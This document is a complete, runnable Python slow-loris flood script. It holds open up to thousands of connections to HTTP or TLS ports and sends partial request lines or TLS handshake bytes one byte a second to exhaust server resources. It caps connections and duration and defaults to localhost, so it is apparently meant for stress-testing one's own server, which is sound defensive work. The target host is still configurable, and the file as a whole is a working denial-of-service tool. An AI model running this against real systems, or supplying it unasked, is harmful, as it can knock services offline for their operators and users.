#!/usr/bin/env python3
"""A slow-loris flood from one address, bounded: keeps up to COUNT
connections open to each TARGET for SECONDS, reopening any the server
closes (a second later, so a refused connection is not retried in a busy
loop). A TRICKLE fraction of them sends one byte a second, never a whole
request: the start of a request line for http targets, of a TLS record for
tls ones (so the server must allocate its TLS state); the rest send nothing.

  flood.py --target 8080:http --target 8443:tls --count 1100 --seconds 20

Prints one line at the end: "opened=N closed_by_server=N most_open=N"
(most_open: the most connections open at once from this side, over all
targets) and closes everything."""
import argparse
import errno
import resource
import selectors
import socket
import time

HTTP_BYTES = b"GET /fv0021F2011B19.conf HTTP/1.1\r\nHost: x\r\n"
# A TLS handshake record header (type 22, version 3.1, length 512) and what
# could be a ClientHello, a byte at a time.
TLS_BYTES = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(32))


class slot:
    def __init__(self, port: int, payload: bytes, trickle: bool):
        self.port = port
        self.payload = payload
        self.trickle = trickle
        self.sock = None
        self.connected = False
        self.sent = 0
        self.retry_at = 0.0


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--target", action="append", required=True, help="PORT:http or PORT:tls")
    p.add_argument("--count", type=int, default=1000, help="connections per target")
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--trickle", type=float, default=0.5, help="fraction that sends a byte a second")
    a = p.parse_args()
    if a.count * len(a.target) > 5000 or a.seconds > 60:
        p.error("bounded: at most 5000 connections and 60 s")

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = a.count * len(a.target) + 100
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))

    slots = []
    for target in a.target:
        port, kind = target.split(":")
        payload = TLS_BYTES if kind == "tls" else HTTP_BYTES
        every = max(1, round(1 / a.trickle)) if a.trickle > 0 else 0
        slots += [slot(int(port), payload, every > 0 and i % every == 0) for i in range(a.count)]

    sel = selectors.DefaultSelector()
    opened = closed_by_server = most_open = 0
    open_now = 0

    def close(s: slot, by_server: bool, now: float):
        nonlocal open_now, closed_by_server
        sel.unregister(s.sock)
        s.sock.close()
        s.sock = None
        if s.connected:
            open_now -= 1
        s.connected = False
        s.retry_at = now + 1.0
        if by_server:
            closed_by_server += 1

    def start(s: slot):
        nonlocal opened
        s.sock = socket.socket()
        s.sock.setblocking(False)
        s.sent = 0
        err = s.sock.connect_ex((a.host, s.port))
        if err not in (0, errno.EINPROGRESS):
            s.sock.close()
            s.sock = None
            s.retry_at = time.monotonic() + 1.0
            return
        sel.register(s.sock, selectors.EVENT_WRITE, s)
        opened += 1

    end = time.monotonic() + a.seconds
    next_trickle = time.monotonic() + 1.0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for s in slots:
            if s.sock is None and now >= s.retry_at:
                start(s)
        for key, events in sel.select(timeout=0.05):
            s = key.data
            now = time.monotonic()
            if not s.connected:
                if s.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    close(s, True, now)
                    continue
                s.connected = True
                open_now += 1
                most_open = max(most_open, open_now)
                sel.modify(s.sock, selectors.EVENT_READ, s)
                continue
            try:
                data = s.sock.recv(4096)
            except OSError:
                data = b""
            if not data:
                close(s, True, now)
        if now >= next_trickle:
            next_trickle = now + 1.0
            for s in slots:
                if s.connected and s.trickle and s.sent < len(s.payload):
                    try:
                        s.sock.send(s.payload[s.sent : s.sent + 1])
                        s.sent += 1
                    except OSError:
                        close(s, True, now)

    for s in slots:
        if s.sock is not None:
            sel.unregister(s.sock)
            s.sock.close()
    print(f"opened={opened} closed_by_server={closed_by_server} most_open={most_open}", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
